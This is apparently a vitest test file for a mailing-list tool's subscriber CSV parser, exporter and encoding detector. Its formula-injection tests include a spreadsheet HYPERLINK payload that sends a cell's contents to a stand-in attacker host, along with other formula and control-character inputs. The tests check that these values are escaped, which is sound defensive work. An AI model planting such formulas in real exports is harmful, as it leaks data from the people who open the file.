/** parseSubscriberCsv and formatSubscriberCsv: CSV as spreadsheets and people write it, and hostile text. */
import { describe, expect, it } from 'vitest';
import { decodeSubscriberCsv } from '../../src/digest/decode-csv.ts';
import { csvField, formatSubscriberCsv, parseSubscriberCsv } from '../../src/digest/subscriber-csv.ts';
import { encodeWindows1252 } from '../helpers/encodings.ts';
import { mulberry32 } from '../helpers/prng.ts';

const rows = (text: string) => parseSubscriberCsv(text).subscribers.map(({ line, address, name }) => [line, address, name ?? null]);
const problems = (text: string) => parseSubscriberCsv(text).problems.map(({ line, reason }) => `${line}: ${reason}`);

describe('parseSubscriberCsv', () => {
  it.each([
    ['an address alone', 'a@example.org\n', false],
    ['a header naming only the address', 'email\na@example.org\n', false],
    ['Mailchimp columns without names', 'Email Address,Member Rating,Country\na@example.org,2,FR\n', false],
    ['an empty name field', 'a@example.org,\n', true],
    ['a name', 'a@example.org,Ann\n', true],
    ['a name in the address', '"Ann <a@example.org>"\n', true],
    ['an empty first and last name', 'email,first name,last name\na@example.org,,\n', true],
  ])('tells a record with no name field (%s: %s) from one with a name, empty or not', (_what, text, named) => {
    const [subscriber] = parseSubscriberCsv(text).subscribers;
    expect('name' in subscriber!).toBe(named);
  });

  it.each([
    [
      'a bare address per line',
      'a@example.org\nb@example.org\n',
      [
        [1, 'a@example.org', null],
        [2, 'b@example.org', null],
      ],
    ],
    ['a header row (any case) is skipped', 'EMAIL,Name\na@example.org,Ann\n', [[2, 'a@example.org', 'Ann']]],
    [
      'CRLF and a byte-order mark',
      '\uFEFFa@example.org,Ann\r\nb@example.org,Bob\r\n',
      [
        [1, 'a@example.org', 'Ann'],
        [2, 'b@example.org', 'Bob'],
      ],
    ],
    [
      'old Mac CR line ends',
      'a@example.org,Ann\rb@example.org,Bob',
      [
        [1, 'a@example.org', 'Ann'],
        [2, 'b@example.org', 'Bob'],
      ],
    ],
    ['quoted fields with commas and "" quotes', '"A@Example.org","Doe, ""Jo"""\n', [[1, 'a@example.org', 'Doe, "Jo"']]],
    [
      'a line break inside a quoted name counts its lines',
      '"a@example.org","Two\nLines"\nb@example.org\n',
      [
        [1, 'a@example.org', 'Two Lines'],
        [3, 'b@example.org', null],
      ],
    ],
    ['Name <address> in the email column', '"Dee <dee@example.org>"\n', [[1, 'dee@example.org', 'Dee']]],
    ['the name column wins over the name in the address', '"Dee <dee@example.org>",Deirdre\n', [[1, 'dee@example.org', 'Deirdre']]],
    ['spaces around fields and blank lines', '  a@example.org , Ann  Archer \n\n\n', [[1, 'a@example.org', 'Ann Archer']]],
    ['an empty third column is fine', 'a@example.org,Ann,\n', [[1, 'a@example.org', 'Ann']]],
    // The one rule for names (parse-mailbox.ts normalizeName): what the sign-up form and `add --name` keep.
    [
      'control characters in the name are left out (no header injection)',
      'a@example.org,"Ann\u0007\u001b[2J\r\nB"\n',
      [[1, 'a@example.org', 'Ann[2J B']],
    ],
    ['a name longer than 200 characters is cut there', `a@example.org,${'x'.repeat(250)}\n`, [[1, 'a@example.org', 'x'.repeat(200)]]],
  ])('%s', (_name, text, expected) => {
    expect(rows(text)).toEqual(expected);
    expect(problems(text)).toEqual([]);
  });

  it.each([
    ['not an address', 'nobody\n', ['1: not an email address: "nobody"']],
    ['a third column with text', 'a@example.org,Ann,extra\n', ['1: expected 2 columns (email,name), got 3']],
    ['a repeated address (any case)', 'a@example.org\nA@example.org\n', ['2: a@example.org is already on line 1']],
    ['an unclosed quote', 'a@example.org\n"b@example.org,Bob\nc@example.org\n', ['2: a quoted field is never closed']],
    ['a header row that is not the first line', 'a@example.org\nemail,name\n', ['2: not an email address: "email"']],
  ])('reports %s with its line number', (_name, text, expected) => {
    expect(problems(text)).toEqual(expected);
  });

  it('reads 200,000 lines in linear time and never throws on random bytes', () => {
    const big = Array.from({ length: 200_000 }, (_, index) => `reader${index}@example.org,"Reader ${index}"`).join('\n');
    const started = performance.now();
    expect(parseSubscriberCsv(big).subscribers).toHaveLength(200_000);
    expect(performance.now() - started).toBeLessThan(10_000);
    const random = mulberry32(20261205);
    const alphabet = 'a@.,"\r\n \u0000é<>';
    for (let round = 0; round < 300; round++) {
      const text = Array.from({ length: 1 + Math.floor(random() * 200) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
      const parsed = parseSubscriberCsv(text);
      for (const subscriber of parsed.subscribers) expect(subscriber.address).toMatch(/^[^\s@]+@[^\s@]+\.[^\s@]+$/);
    }
  });
});

describe('formatSubscriberCsv', () => {
  it('quotes what needs quoting and reads back to the same rows', () => {
    const subscribers = [
      { address: 'a@example.org', name: 'Doe, "Jo"' },
      { address: 'b@example.org', name: null },
      { address: 'c@example.org', name: ' padded ' },
    ];
    const csv = formatSubscriberCsv(subscribers);
    expect(csv).toBe('email,name\r\na@example.org,"Doe, ""Jo"""\r\nb@example.org,\r\nc@example.org," padded "\r\n');
    expect(parseSubscriberCsv(csv).subscribers.map(({ address, name }) => ({ address, name }))).toEqual([
      { address: 'a@example.org', name: 'Doe, "Jo"' },
      { address: 'b@example.org', name: null },
      { address: 'c@example.org', name: 'padded' },
    ]);
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1;"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ["'=1", "''=1"],
    ["''+1", "'''+1"],
    ["'quoted'", "'quoted'"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
  ])('writes %j as %s, a cell a spreadsheet shows as text', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('an export imports back exactly: import takes off the one quote export put on', () => {
    const subscribers = [
      { address: '=1+2@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1;"click")' },
      { address: '-dash@example.org', name: '+1+2' },
      { address: 'a@example.org', name: '@SUM(1)' },
      { address: 'b@example.org', name: "'=already quoted" },
      { address: 'c@example.org', name: "''-two quotes" },
      { address: 'd@example.org', name: "'just a quote'" },
      { address: 'e@example.org', name: '-' },
    ];
    const csv = formatSubscriberCsv(subscribers);
    expect(csv.split('\r\n').slice(1, 3)).toEqual([
      `'=1+2@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`,
      "'-dash@example.org,'+1+2",
    ]);
    expect(parseSubscriberCsv(csv).subscribers.map(({ address, name }) => ({ address, name }))).toEqual(subscribers);
    expect(parseSubscriberCsv(csv).problems).toEqual([]);
  });
});

describe('decodeSubscriberCsv', () => {
  const text = 'email,name\r\nm@example.org,Müller René\r\n';
  const utf16le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const utf16be = Buffer.from(utf16le).swap16();

  it.each([
    ['UTF-8', Buffer.from(text)],
    ['UTF-8 with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)])],
    ['UTF-16LE with its byte-order mark (Excel "Unicode Text")', utf16le],
    ['UTF-16BE with its byte-order mark', utf16be],
  ])('reads %s', (_name, bytes) => {
    const decoded = decodeSubscriberCsv(bytes);
    expect(decoded.kind).toBe('ok');
    expect(parseSubscriberCsv(decoded.kind === 'ok' ? decoded.text : '').subscribers).toMatchObject([{ name: 'Müller René' }]);
  });

  it('refuses windows-1252 (Excel "CSV (Comma delimited)") as UTF-8, naming the first bad line and what to do', () => {
    const bytes = encodeWindows1252('email,name\r\na@example.org,Ann\r\nm@example.org,Müller René\r\n');
    expect(decodeSubscriberCsv(bytes)).toEqual({
      kind: 'failed',
      line: 3,
      reason: expect.stringMatching(/^not UTF-8 text; save it as "CSV UTF-8 \(Comma delimited\)" .* --encoding \(windows-1252 /),
    });
    expect(decodeSubscriberCsv(bytes, 'windows-1252')).toEqual({
      kind: 'ok',
      text: 'email,name\r\na@example.org,Ann\r\nm@example.org,Müller René\r\n',
    });
    expect(decodeSubscriberCsv(bytes, 'latin1')).toMatchObject({ kind: 'ok' });
  });

  it('refuses UTF-16 holding a lone surrogate, and an --encoding its byte-order mark contradicts', () => {
    const lone = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('email,name\r\na@example.org,A', 'utf16le'),
      Buffer.from([0x00, 0xd8]),
    ]);
    expect(decodeSubscriberCsv(lone)).toMatchObject({
      kind: 'failed',
      reason: expect.stringMatching(/^not UTF-16LE text \(a lone surrogate\)/),
    });
    const bom8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]);
    expect(decodeSubscriberCsv(bom8, 'windows-1252')).toMatchObject({
      kind: 'failed',
      line: 1,
      reason: 'starts with a UTF-8 byte-order mark, so it is UTF-8: leave out --encoding windows-1252',
    });
    expect(decodeSubscriberCsv(bom8, 'utf8')).toMatchObject({ kind: 'ok' });
    expect(decodeSubscriberCsv(utf16le, 'utf-16le')).toMatchObject({ kind: 'ok' });
  });

  it('takes a NUL near the start for a NUL (left to the address check), not for UTF-16', () => {
    const decoded = decodeSubscriberCsv(Buffer.from('x\0y@example.com,Nul\nz@example.com,ok\n'));
    expect(decoded.kind).toBe('ok');
    expect(problems(decoded.kind === 'ok' ? decoded.text : '')).toEqual([
      '1: not an email address: "x\\u0000y@example.com"; it holds a control or bidi character',
    ]);
  });

  it('refuses UTF-16 without its byte-order mark, and an unknown --encoding', () => {
    expect(decodeSubscriberCsv(Buffer.from(text, 'utf16le'))).toMatchObject({
      kind: 'failed',
      reason: expect.stringContaining('--encoding utf-16le'),
    });
    expect(decodeSubscriberCsv(Buffer.from(text, 'utf16le'), 'utf-16le')).toEqual({ kind: 'ok', text });
    expect(decodeSubscriberCsv(Buffer.from(text), 'klingon')).toMatchObject({
      kind: 'failed',
      line: null,
      reason: expect.stringMatching(/^--encoding klingon: not an encoding/),
    });
  });
});

describe('CSV as real files write it', () => {
  it.each([
    [
      'an unterminated quote: its line is reported, the lines after it are read',
      'o@example.org,"Oops\np@example.org,Pat\nq@example.org,Quin\n',
      [
        [2, 'p@example.org', 'Pat'],
        [3, 'q@example.org', 'Quin'],
      ],
      ['1: a quoted field is never closed'],
    ],
    [
      'a stray quote closed lines later does not swallow the records between',
      'o@example.org,"Oops\r\np@example.org,Pat\r\nq@example.org,"Quin"\r\n',
      [
        [2, 'p@example.org', 'Pat'],
        [3, 'q@example.org', 'Quin'],
      ],
      ['1: a quoted field is not closed on this line, and the lines after it hold addresses'],
    ],
    [
      '";" separators (Excel in much of Europe) are named',
      'email;name\nc@example.com;Carl\n',
      [],
      [
        '1: not an email address: "email;name"',
        '2: not an email address: "c@example.com;Carl"; the file looks separated by ";": save it with commas (CSV UTF-8), or replace ";" by ","',
      ],
    ],
    [
      'tab separators are named',
      'ii@example.com\tIan\n',
      [],
      [
        '1: not an email address: "ii@example.com\\tIan"; the file looks separated by tabs: save it with commas (CSV UTF-8), or replace tabs by ","',
      ],
    ],
    [
      'swapped columns without a header are named',
      'Ann Archer,ann@example.org\n',
      [],
      ['1: not an email address: "Ann Archer"; the address is in the second column: put email first, or add a header row "name,email"'],
    ],
  ])('%s', (_name, text, expectedRows, expectedProblems) => {
    expect(rows(text)).toEqual(expectedRows);
    expect(problems(text)).toEqual(expectedProblems);
  });

  it.each([
    ['"E-mail Address" as header', 'E-mail Address\na@example.org\n', [[2, 'a@example.org', null]]],
    ['a header with the columns swapped', 'Name,Email\nAnn Archer,a@example.org\n', [[2, 'a@example.org', 'Ann Archer']]],
    [
      "Mailchimp's export: first and last name joined, other columns ignored",
      'Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME\na@example.org,Ann,Archer,2,2024-01-01\nb@example.org,,Bee,1,\nc@example.org,,,1,\n',
      [
        [2, 'a@example.org', 'Ann Archer'],
        [3, 'b@example.org', 'Bee'],
        [4, 'c@example.org', null],
      ],
    ],
    ['a blank first line before the header', '\nemail,name\na@example.org,Ann\n', [[3, 'a@example.org', 'Ann']]],
    ['a space before a quoted field', 'j@example.org, "Doe, Jay"\n', [[1, 'j@example.org', 'Doe, Jay']]],
  ])('reads %s', (_name, text, expected) => {
    expect(problems(text)).toEqual([]);
    expect(rows(text)).toEqual(expected);
  });
});
